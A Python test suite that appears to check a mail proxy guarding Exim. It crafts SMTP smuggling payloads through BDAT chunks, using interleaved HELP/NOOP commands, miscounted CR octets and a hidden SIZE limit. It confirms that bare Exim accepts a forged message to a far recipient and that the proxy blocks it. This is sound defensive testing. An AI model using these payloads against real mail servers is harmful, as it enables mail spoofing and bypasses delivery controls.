# SPDX-License-Identifier: ISC
"""Chunks of a stranger's own that a real Exim takes for commands, if they come to it: behind a
command that it refuses between two of them, where it counts more octets than there are, and where
nobody has been told its limit."""
import contextlib
import time

import exim
import harness
import mailserver
import puppet
from puppet import DATA, EHLO, MAIL, RCPT, case
from wire import Wire

BODIES = "BODY_AUTO", "BODY_COPY", "BODY_SPLICE"
QUIET_S = 0.5
SMUGGLED = b"Subject: smuggled\r\n\r\nsmuggled\r\n"
TRANSACTION = (b"MAIL FROM:<evil@evil.test>\r\nRCPT TO:<victim@far.test>\r\n"
               b"BDAT %d LAST\r\n" % len(SMUGGLED) + SMUGGLED)
HEAD = b"Subject: t\r\n\r\nx\r\n"


class Attack(harness.TestCase):
    @staticmethod
    @contextlib.contextmanager
    def greeted(port):
        with puppet.client(port) as client, \
                contextlib.suppress(BrokenPipeError, ConnectionResetError):
            client.reply()
            for command in EHLO, MAIL, RCPT:
                client.send(command)
                client.reply()
            yield client

    def assert_nothing_smuggled(self, server):
        self.assertEqual({line for line in server.recipients() if "far.test" in line}, set())
        self.assertEqual(server.mails(0, mailserver.FAR), [])


class Between(Attack):
    """Exim refuses HELP between chunks, and NOOP when there were ten; then it takes no chunk of the
    message any more, and its octets are commands."""
    MIDDLES = [b"HELP\r\n"], [b"HELP MAIL\r\n"], [b"NOOP\r\n"] * 11, [b"VRFY root\r\n"]

    def attack(self, port, middle):
        with self.greeted(port) as client:
            chunk = b"RSET\r\n" + TRANSACTION + b"NOOP\r\n" * 4
            for words in b"BDAT %d\r\n" % len(HEAD) + HEAD, *middle:
                client.send(words)
                client.reply()
            client.send(b"BDAT %d LAST\r\n" % len(chunk) + chunk)
            return client.reply()[:3]

    def test_the_server_alone_is_deceived(self):
        for middle in self.MIDDLES[0], self.MIDDLES[2]:
            with case(middle[0]), exim.Exim() as server:
                self.attack(server.port, middle)
                self.assertEqual(len(server.mails(1, mailserver.FAR)), 1)

    def test_behind_caronte(self):
        for middle in self.MIDDLES:
            with case(middle[0]), exim.Exim() as server, \
                    self.caronte(server, MAX_IDLE_COMMANDS=None) as daemon:
                self.assertEqual(self.attack(daemon.port, middle), b"250")
                self.assertEqual(len(server.mails(1)), 1)
                self.assert_nothing_smuggled(server)


class Counting(Attack):
    """Exim stores a CR of a header that is no newline as two octets. So a chunk of as many octets
    as it takes is more than that, and what it has not read by then are commands."""
    LIMIT, CRS, BUFFER = 110000, 30000, 8191

    def attack(self, port):
        head = b"Subject: t\r\nX: a" + b"\ra" * self.CRS + b"\r\n\r\n"
        first = head.ljust(self.LIMIT - self.CRS - 4000, b"y")
        left = self.LIMIT - len(first)
        then = b"y" * (self.BUFFER - 2) + b"\r\n"
        then += TRANSACTION * ((left - self.BUFFER - 2) // len(TRANSACTION))
        then = then.ljust(left - 2, b"z") + b"\r\n"
        with self.greeted(port) as client:
            client.send(b"BDAT %d LAST\r\n" % self.LIMIT)
            for octets in first, then:
                time.sleep(QUIET_S)
                client.send(octets)
            return client.reply()[:3]

    def test_the_server_alone_is_deceived(self):
        with exim.Exim(self.LIMIT) as server:
            self.attack(server.port)
            self.assertGreater(len(server.mails(1, mailserver.FAR)), 0)

    def test_behind_caronte(self):
        for body in BODIES:
            with case(body), exim.Exim(self.LIMIT) as server, \
                    self.caronte(server, **{body: True}) as daemon:
                self.assertEqual(self.attack(daemon.port), b"552")
                self.assertEqual(daemon.record("message").get("reply"),
                                 "552 5.3.4 Message too big")
                self.assert_nothing_smuggled(server)

    def test_as_many_as_there_are(self):
        """Without such CRs a message of as many octets passes, whatever way it goes."""
        for body in BODIES:
            with case(body), exim.Exim(self.LIMIT) as server, \
                    self.caronte(server, **{body: True}) as daemon, \
                    self.greeted(daemon.port) as client:
                # (Exim takes one octet less than it says.)
                mail = (b"Subject: t\r\n\r\n" + b"0123456789abcde\r\n" * self.LIMIT)[
                    :self.LIMIT - 3] + b"\r\n"
                client.send(b"BDAT 5000\r\n" + mail[:5000])
                self.assertEqual(client.reply()[:3], b"250")
                client.send(b"BDAT %d LAST\r\n" % (len(mail) - 5000) + mail[5000:])
                self.assertEqual(client.reply()[:3], b"250")


class Hiding(Wire):
    """There are middle boxes that cross out what they do not know in an answer to EHLO."""

    def take(self, sock, pieces):
        super().take(sock, Crossed(pieces))


class Crossed:
    def __init__(self, pieces):
        self.pieces = pieces

    def put(self, piece):
        self.pieces.put((piece[0], piece[1].replace(b"250-SIZE", b"250-XXXX")))


class Unlimited(Attack):
    """Exim is over its limit in the middle of a chunk, throws away what it has of it in its buffer,
    and reads on: commands. So nobody may use its chunks who does not know where that is."""
    LIMIT, BUFFER = 110000, 8191

    def attack(self, port, verb):
        """What EHLO is answered, and the message."""
        first = HEAD.ljust(self.LIMIT - self.BUFFER // 2, b"y")
        then = b"y" * (self.BUFFER - 2) + b"\r\n" + TRANSACTION * 50
        with puppet.client(port) as client, \
                contextlib.suppress(BrokenPipeError, ConnectionResetError):
            client.reply()
            client.send(EHLO)
            offered = client.reply()
            for command in MAIL, RCPT, verb or b"BDAT %d LAST\r\n" % len(first + then):
                client.send(command)
                if command.startswith(b"BDAT"):
                    break
                client.reply()
            for octets in first, then, b"\r\n.\r\n" if verb else b"":
                time.sleep(QUIET_S)
                client.send(octets)
            return offered, client.reply()[:3]

    def test_the_server_alone_is_deceived(self):
        with exim.Exim(self.LIMIT) as server, Hiding(server.port, 0) as wire:
            offered, _ = self.attack(wire.port, None)
            self.assertIn(b"CHUNKING", offered)
            self.assertNotIn(b"SIZE", offered)
            self.assertGreater(len(server.mails(1, mailserver.FAR)), 0)

    def test_behind_caronte(self):
        for verb, code in (None, b"502"), (DATA, b"552"):
            with case(verb), exim.Exim(self.LIMIT) as server, Hiding(server.port, 0) as wire, \
                    self.caronte(wire) as daemon:
                offered, answer = self.attack(daemon.port, verb)
                self.assertIn(b"8BITMIME", offered)
                self.assertNotIn(b"CHUNKING", offered)
                self.assertEqual(answer, code)
                self.assert_nothing_smuggled(server)


del Attack
